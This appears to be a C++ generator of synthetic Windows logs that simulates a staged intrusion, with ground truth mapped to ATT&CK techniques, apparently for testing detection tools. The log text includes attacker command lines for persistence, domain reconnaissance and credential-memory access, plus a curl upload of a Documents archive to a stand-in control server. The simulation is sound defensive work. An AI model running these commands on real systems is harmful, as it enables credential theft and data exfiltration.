#include "simulate/demo.hpp"

#include <algorithm>

#include "attack/stage.hpp"
#include "json/writer.hpp"
#include "sensors/machine.hpp"
#include "simulate/background.hpp"

namespace interdict::simulate {

using sensors::iso_time;
using sensors::Record;
namespace {

using attack::Stage;

constexpr std::int64_t kMinute = 60'000;
/// 2026-03-03T08:00:00Z, a working Tuesday.
constexpr std::int64_t kBegin = 1'772'524'800'000;
constexpr std::int64_t kEnd = kBegin + 240 * kMinute;
constexpr std::int64_t kBoot = kBegin - 30 * kMinute;
constexpr std::size_t kBackgroundPerHost = 1000;
constexpr std::size_t kVictim = 2;
constexpr std::size_t kFileServer = 1;

struct Step {
  Stage stage;
  std::string_view technique;
  std::size_t host;
  std::int64_t time_ms;
  std::size_t caused_by;  ///< 0 = the root
  std::string_view what;
};

struct Plan {
  std::vector<Step> steps;
  /// Returns the number of the new step.
  std::size_t add(Stage stage, std::string_view technique, std::size_t host, std::int64_t time_ms,
                  std::size_t caused_by, std::string_view what) {
    steps.push_back({stage, technique, host, time_ms, caused_by, what});
    return steps.size();
  }
};

constexpr std::string_view kLures[] = {"parcel-notice", "payroll-update", "meeting-recording",
                                       "invoice-viewer"};
constexpr std::string_view kImplants[] = {"SyncHelper", "AudioTray", "PanelHost", "NoteAgent"};

/// Path of a program of Windows.
std::string system_tool(std::string_view name) {
  return "C:\\Windows\\System32\\" + std::string(name);
}

/// What the intruder uses in this run; drawn once so that all steps agree.
struct Cast {
  std::string lure;     ///< path of the download
  std::string implant;  ///< path of the installed copy
  std::string name;     ///< of the autostart entry
  std::string server;   ///< address of the control server
};

Cast draw_cast(Machine& victim, Random& random) {
  Cast cast;
  cast.lure = victim.home() + "\\Downloads\\" + std::string(random.pick(kLures)) + ".exe";
  cast.name = std::string(random.pick(kImplants));
  cast.implant = victim.home() + "\\AppData\\Roaming\\" + cast.name + '\\' + cast.name + ".exe";
  cast.server = "203.0.113." + std::to_string(random.between(20, 240));
  return cast;
}

struct Foothold {
  Process process;
  std::size_t step = 0;  ///< that gained it
};

/// Lure, first start, first contact, autostart: returns the installed program.
Foothold enter(Machine& victim, Random& random, const Cast& cast, Plan& plan, std::int64_t& now) {
  const std::size_t delivery = plan.add(Stage::delivery, "T1566.002", kVictim, now, 0,
                                        "a program is downloaded from a link in a mail");
  victim.connect(now, victim.browser(), cast.server, 80, "", delivery);
  victim.sysmon(now + 800, 11, victim.browser(), {{"TargetFilename", cast.lure}}, delivery);
  victim.sysmon(now + 900, 15, victim.browser(),
                {{"TargetFilename", cast.lure + ":Zone.Identifier"},
                 {"Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=http://" + cast.server +
                                  "/files/" + cast.lure.substr(cast.lure.rfind('\\') + 1)}},
                delivery);
  now += random.between(1, 4) * kMinute;
  const std::size_t start = plan.add(Stage::exploitation, "T1204.002", kVictim, now, delivery,
                                     "the user starts the downloaded program");
  const Process loader =
      victim.start(now, victim.explorer(), cast.lure, '"' + cast.lure + '"', victim.user(), start);
  now += random.between(5, 40) * 1000;
  const std::size_t contact = plan.add(Stage::command_and_control, "T1071.001", kVictim, now, start,
                                       "the program reports to its control server");
  victim.connect(now, loader, cast.server, 443, "", contact);
  now += random.between(3, 9) * kMinute;
  const std::size_t install = plan.add(Stage::installation, "T1547.001", kVictim, now, contact,
                                       "a copy is placed in the profile and started at sign-in");
  victim.sysmon(now, 11, loader, {{"TargetFilename", cast.implant}}, install);
  victim.sysmon(
      now + 400, 13, loader,
      {{"EventType", "SetValue"},
       {"TargetObject",
        "HKU\\S-1-5-21-1000-2000-3000-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\"
        "Run\\" +
            cast.name},
       {"Details", cast.implant}},
      install);
  now += random.between(20, 90) * 1000;
  const std::size_t task = plan.add(Stage::installation, "T1053.005", kVictim, now, install,
                                    "a scheduled task starts the copy");
  const Process shell =
      victim.start(now, loader, system_tool("cmd.exe"), "cmd.exe /c schtasks", victim.user(), task);
  victim.start(now + 200, shell, system_tool("schtasks.exe"),
               "schtasks /create /sc minute /mo 30 /tn " + cast.name + " /tr " + cast.implant,
               victim.user(), task);
  now += random.between(1, 3) * kMinute;
  const std::size_t again = plan.add(Stage::command_and_control, "T1071.001", kVictim, now, task,
                                     "the installed copy reports at short intervals");
  const Process implant = victim.start(now, victim.svchost(), cast.implant,
                                       '"' + cast.implant + '"', victim.user(), again);
  for (std::int64_t beacon = now + 2000; beacon < kEnd;
       beacon += 2 * kMinute + random.between(-6000, 6000)) {
    victim.connect(beacon, implant, cast.server, 443, "", again);
  }
  return {implant, again};
}

void command(Machine& machine, const Process& shell, std::int64_t now, std::string_view tool,
             std::string line, std::size_t step) {
  machine.start(now, shell, system_tool(tool), std::move(line), shell.user, step);
}

/// Looking around, passwords, the next host, and the theft.
void act(std::vector<Machine>& machines, Random& random, const Cast& cast, Plan& plan,
         const Foothold& foothold, std::int64_t now) {
  Machine& victim = machines[kVictim];
  Machine& server = machines[kFileServer];
  const std::size_t look = plan.add(Stage::actions_on_objectives, "T1069.002", kVictim, now,
                                    foothold.step, "rights, groups and trusts are listed");
  const Process shell =
      victim.start(now, foothold.process, system_tool("cmd.exe"), "cmd.exe", victim.user(), look);
  command(victim, shell, now + 4000, "whoami.exe", "whoami /all", look);
  command(victim, shell, now + 15000, "net.exe", "net group \"Domain Admins\" /domain", look);
  command(victim, shell, now + 31000, "nltest.exe", "nltest /domain_trusts", look);
  now += random.between(6, 15) * kMinute;
  const std::size_t passwords = plan.add(Stage::actions_on_objectives, "T1003.001", kVictim, now,
                                         look, "the memory of the credential process is read");
  victim.open_lsass(now, foothold.process, "0x1410", passwords);
  now += random.between(8, 20) * kMinute;
  const std::size_t move =
      plan.add(Stage::actions_on_objectives, "T1021.002", kFileServer, now, passwords,
               "a service is installed on the file server with a stolen account");
  server.security(now, 4624,
                  {{"SubjectUserName", "-"},
                   {"TargetUserName", "adm-files"},
                   {"TargetDomainName", "EXAMPLE"},
                   {"TargetLogonId", "0x5a77e1"},
                   {"LogonType", "3"},
                   {"IpAddress", victim.address()},
                   {"WorkstationName", "WS07"},
                   {"AuthenticationPackageName", "NTLM"}},
                  move);
  server.service_control(now + 1200, 7045,
                         {{"ServiceName", cast.name},
                          {"ImagePath", "%COMSPEC% /c net share"},
                          {"ServiceType", "user mode service"},
                          {"StartType", "demand start"},
                          {"AccountName", "LocalSystem"}},
                         move);
  server.start(now + 1500, server.services(), system_tool("cmd.exe"),
               "C:\\Windows\\system32\\cmd.exe /c net share", "NT AUTHORITY\\SYSTEM", move);
  now += random.between(10, 25) * kMinute;
  const std::size_t stage = plan.add(Stage::actions_on_objectives, "T1560", kVictim, now, move,
                                     "documents are packed into one archive");
  const std::string archive = victim.home() + "\\AppData\\Roaming\\" + cast.name + "\\w.zip";
  const Process packer =
      victim.start(now, foothold.process, system_tool("WindowsPowerShell\\v1.0\\powershell.exe"),
                   "powershell.exe -c Compress-Archive -Path " + victim.home() +
                       "\\Documents\\* -DestinationPath " + archive,
                   victim.user(), stage);
  victim.sysmon(now + 9000, 11, packer, {{"TargetFilename", archive}}, stage);
  now += random.between(2, 6) * kMinute;
  const std::size_t theft = plan.add(Stage::actions_on_objectives, "T1041", kVictim, now, stage,
                                     "the archive is sent to the control server");
  const Process upload = victim.start(
      now, foothold.process, system_tool("curl.exe"),
      "curl.exe -F \"file=@" + archive + "\" https://" + cast.server + "/u", victim.user(), theft);
  victim.connect(now + 700, upload, cast.server, 443, "", theft);
}

struct Place {
  std::size_t file;
  std::size_t line;
};

std::string write_truth(std::uint64_t seed, const std::vector<Machine>& machines, const Plan& plan,
                        const std::vector<std::vector<Place>>& places,
                        const std::vector<LogFile>& logs) {
  std::string out;
  json::Writer json(out, json::Layout::pretty);
  json.begin_object().key("seed").unsigned_integer(seed);
  json.key("hosts").begin_array();
  for (const Machine& machine : machines) json.string(machine.host());
  json.end_array();
  json.key("intrusions").begin_array().begin_object();
  json.key("root").integer(1);
  json.key("steps").begin_array();
  for (std::size_t i = 0; i < plan.steps.size(); ++i) {
    const Step& step = plan.steps[i];
    json.begin_object().key("step").unsigned_integer(i + 1);
    json.key("stage").string(attack::to_string(step.stage));
    json.key("technique").string(step.technique);
    json.key("host").string(machines[step.host].host());
    json.key("time").string(iso_time(step.time_ms));
    json.key("what").string(step.what);
    json.key("caused_by");
    if (step.caused_by == 0) {
      json.null();
    } else {
      json.unsigned_integer(step.caused_by);
    }
    json.key("records").begin_array();
    for (const Place& place : places[i]) {
      json.begin_object().key("file").string(logs[place.file].name);
      json.key("line").unsigned_integer(place.line).end_object();
    }
    json.end_array().end_object();
  }
  json.end_array().end_object().end_array().end_object();
  out += '\n';
  return out;
}

std::vector<Machine> build_site(Random& random) {
  struct Desk {
    std::string_view name;
    std::string_view address;
    std::string_view account;
  };
  constexpr Desk kDesks[] = {
      {"DC01", "192.0.2.10", "adm-domain"}, {"FS01", "192.0.2.11", "adm-files"},
      {"WS07", "192.0.2.107", "a.keller"},  {"WS08", "192.0.2.108", "b.ortiz"},
      {"WS09", "192.0.2.109", "c.lindh"},   {"WS10", "192.0.2.110", "d.mori"}};
  std::vector<Machine> machines;
  for (const Desk& desk : kDesks) {
    machines.emplace_back(machines.size(), std::string(desk.name), std::string(desk.address),
                          std::string(desk.account), kBoot, random.next());
  }
  return machines;
}

}  // namespace

DemoLogs make_demo(std::uint64_t seed) {
  Random random(seed);
  std::vector<Machine> machines = build_site(random);
  for (Machine& machine : machines) add_background(machine, kBegin, kEnd, kBackgroundPerHost);

  const Cast cast = draw_cast(machines[kVictim], random);
  Plan plan;
  std::int64_t now = kBegin + random.between(55, 75) * kMinute;
  const Foothold foothold = enter(machines[kVictim], random, cast, plan, now);
  act(machines, random, cast, plan, foothold, now + random.between(12, 25) * kMinute);

  DemoLogs demo;
  std::vector<std::vector<Place>> places(plan.steps.size());
  for (Machine& machine : machines) {
    std::ranges::stable_sort(machine.records(), {}, &Record::time_ms);
    LogFile file;
    file.name = machine.host() + ".jsonl";
    std::size_t line = 0;
    for (const Record& record : machine.records()) {
      ++line;
      file.content += record.text;
      file.content += '\n';
      if (record.step != 0) places[record.step - 1].push_back({demo.logs.size(), line});
    }
    demo.logs.push_back(std::move(file));
  }
  demo.truth = write_truth(seed, machines, plan, places, demo.logs);
  return demo;
}

}  // namespace interdict::simulate
